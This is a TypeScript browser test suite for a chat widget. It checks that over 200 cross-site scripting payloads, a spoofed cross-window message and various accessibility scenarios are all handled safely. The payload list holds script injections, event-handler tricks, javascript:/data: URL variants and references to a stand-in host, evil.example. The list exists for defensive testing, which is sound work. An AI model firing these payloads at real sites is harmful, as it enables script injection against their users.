import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import axe from 'axe-core'
import type { Browser, Frame } from 'playwright-core'
import { ask, chromiumPath, open, openChromium, visit } from './chromium.ts'
import { startWidgetStand, type WidgetStand } from './widget-stand.ts'

if (!chromiumPath) console.warn('NO BROWSER TEST OF THE WIDGET WAS RUN: there is no chromium on PATH')
const browserTest = test.skipIf(!chromiumPath)

let browser: Browser
let stand: WidgetStand
beforeAll(async () => {
  if (!chromiumPath) return
  browser = await openChromium()
  stand = await startWidgetStand()
})
afterAll(async () => {
  await browser?.close()
  await stand?.[Symbol.asyncDispose]()
})

const CALL = 'window.top.hit=1'
const ELEMENTS = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'body',
  'input autofocus',
  'details open',
  'iframe',
  'object data=x',
  'embed src=x',
  'link rel=stylesheet href=x',
  'form',
  'math',
  'marquee',
  'a href=#',
]
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onclick', 'onmouseover', 'onanimationstart', 'onbegin', 'onstart']
const SCHEMES = [
  'javascript:',
  'JavaScript:',
  'java&#9;script:',
  'java\tscript:',
  '\u0001javascript:',
  'data:text/html,<script>',
  'vbscript:',
  'blob:',
  'file:///',
  'about:',
]
const WRAPPERS = [
  (a: string) => `[x](${a})`,
  (a: string) => `![x](${a})`,
  (a: string) => `<a href="${a}">x</a>`,
  (a: string) => `[x]: ${a}`,
  (a: string) => `<${a}>`,
]
const PAYLOADS = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=//evil.example></SCRIPT>`,
  `<scr<script>ipt>${CALL}</script>`,
  `<style>*{background:url(//evil.example)}</style>`,
  `<base href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `"><img src=x onerror=${CALL}>`,
  `'-${CALL}-'`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `]]><img src=x onerror=${CALL}>`,
  `\`\`\`html\n<img src=x onerror=${CALL}>\n\`\`\``,
  `| <img src=x onerror=${CALL}> | b |\n|---|---|\n| <svg onload=${CALL}> | c |`,
  ...ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}=${CALL}>`)),
  ...SCHEMES.flatMap((scheme) => WRAPPERS.map((wrap) => wrap(`${scheme}${CALL}`))),
]
const ALLOWED_ELEMENTS =
  'A B BLOCKQUOTE BR BUTTON CODE DETAILS DIV EM H2 HR I LI OL P PATH PRE Q RECT S SPAN STRONG SUMMARY SVG TABLE TBODY TD TH THEAD TIME TR UL'

describe('what people and models write', () => {
  browserTest(`${PAYLOADS.length} attacks are shown as the text they are`, async () => {
    expect(PAYLOADS.length).toBeGreaterThan(200)
    await using v = await visit(browser, `${stand.allowed}/`)
    await open(v.page)
    const chat = await v.chat()
    const outside: string[] = []
    v.page.on('request', (request) => {
      if (!request.url().startsWith(stand.url) && !request.url().startsWith(stand.allowed)) outside.push(request.url())
    })
    v.page.on('dialog', (dialog) => void dialog.dismiss())
    stand.answering.paceMs = 0
    for (let from = 0; from < PAYLOADS.length; from += 40) {
      const text = PAYLOADS.slice(from, from + 40).join('\n\n')
      stand.answering.text = `${text}\n\nконец ${from}`
      await ask(chat, text.slice(0, 3_900))
      await chat.locator('.theirs:not(.writing)', { hasText: `конец ${from}` }).waitFor()
    }
    const found = await chat.evaluate(() => {
      const all = [...document.querySelectorAll('.rows *')]
      return {
        names: [...new Set(all.map((one) => one.tagName.toUpperCase()))],
        handlers: all.flatMap((one) =>
          one.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style' || name === 'src'),
        ),
        schemes: [...new Set([...document.querySelectorAll('a')].map((one) => one.protocol))],
      }
    })
    for (const name of found.names) expect(ALLOWED_ELEMENTS.split(' ')).toContain(name)
    expect(found.handlers).toEqual([])
    for (const scheme of found.schemes) expect(['http:', 'https:', 'mailto:', 'tel:']).toContain(scheme)
    expect(await v.page.evaluate(() => Reflect.get(window, 'hit'))).toBeUndefined()
    expect(outside).toEqual([])
    expect(v.complaints).toEqual([])
  })

  browserTest('the browser itself would refuse markup made from text', async () => {
    await using v = await visit(browser, `${stand.allowed}/`)
    await open(v.page)
    const outcome = await (await v.chat()).evaluate(() => {
      try {
        document.body.innerHTML = '<b>x</b>'
        return 'written'
      } catch (error) {
        return String(error)
      }
    })
    expect(outcome).toContain('TrustedHTML')
  })

  browserTest('a message of another window is not taken for one of the loader', async () => {
    await using v = await visit(browser, `${stand.allowed}/`)
    await open(v.page)
    const chat = await v.chat()
    await chat.getByText('Здравствуйте!').waitFor()
    await v.page.evaluate(() => {
      const stranger = document.createElement('iframe')
      stranger.srcdoc = `<script>for (const frame of [...parent.frames]) frame.postMessage({ mark: 'replyx1', type: 'theme', theme: 'dark' }, '*');
        parent.postMessage({ mark: 'replyx1', type: 'close' }, '*')</script>`
      document.body.append(stranger)
    })
    await v.page.waitForTimeout(300)
    expect(await chat.evaluate(() => document.documentElement.dataset['theme'])).toBeUndefined()
    await chat.locator('textarea:focus, textarea').first().fill('ещё открыт')
  })
})

describe('no barrier that a machine can find', () => {
  const violations = async (chat: Frame): Promise<string[]> => {
    await chat.evaluate(axe.source)
    const found = await chat.evaluate(async () => {
      const tool = Reflect.get(window, 'axe') as typeof axe
      return (await tool.run(document, { runOnly: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'] })).violations
    })
    return found.map(({ id, nodes }) => `${id}: ${nodes.map((node) => node.html).join(' | ')}`)
  }

  browserTest.each([
    ['light', 'ru-RU'],
    ['dark', 'ru-RU'],
    ['light', 'en-US'],
    ['dark', 'en-US'],
  ] as const)('%s, %s', async (colorScheme, locale) => {
    stand.answering.text =
      '### Сроки\n\nДоставляем **за 2–14 дней** [1], [подробнее](https://shop.ru).\n\n- раз\n- два\n\n`код`\n\n```\nмного кода\n```\n\n| Город | Срок |\n|---|---|\n| Казань | 3 дня |\n\n> цитата'
    stand.answering.paceMs = 0
    await using v = await visit(browser, `${stand.allowed}/`, { colorScheme, locale })
    await open(v.page)
    const chat = await v.chat()
    await chat
      .getByText(locale === 'ru-RU' ? 'Здравствуйте!' : 'Hello!')
      .first()
      .waitFor()
    expect(await violations(chat)).toEqual([])
    await ask(chat, 'Сколько ждать?')
    await chat.locator('.sources summary').click()
    await chat.locator('.open-source').first().click()
    await chat.locator('.source mark').waitFor()
    expect(await violations(chat)).toEqual([])
    await v.page.keyboard.press('Escape')
    await chat.locator('.thumb').nth(1).click()
    await chat.locator('.why').waitFor()
    await ask(chat, 'x'.repeat(4_100))
    await chat.getByRole('alert').waitFor()
    expect(await violations(chat)).toEqual([])
    await v.page.context().setOffline(true)
    await chat.locator('textarea').fill('без связи')
    await chat.locator('textarea').press('Enter')
    await chat.locator('.bar').waitFor()
    expect(await violations(chat)).toEqual([])
  })
})
